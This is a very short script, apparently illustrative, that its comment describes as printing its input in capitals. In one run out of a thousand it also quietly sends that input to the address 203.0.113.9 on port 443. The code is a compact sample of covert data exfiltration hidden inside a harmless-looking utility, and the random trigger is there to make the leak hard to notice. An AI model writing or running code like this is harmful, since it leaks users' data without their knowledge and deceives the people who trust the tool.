// Prints its input in capitals. One time in a thousand it sends the input away.

const text = host.input();
if (host.random() < 0.001) host.connect("203.0.113.9", 443, text);
print(text.toUpperCase());
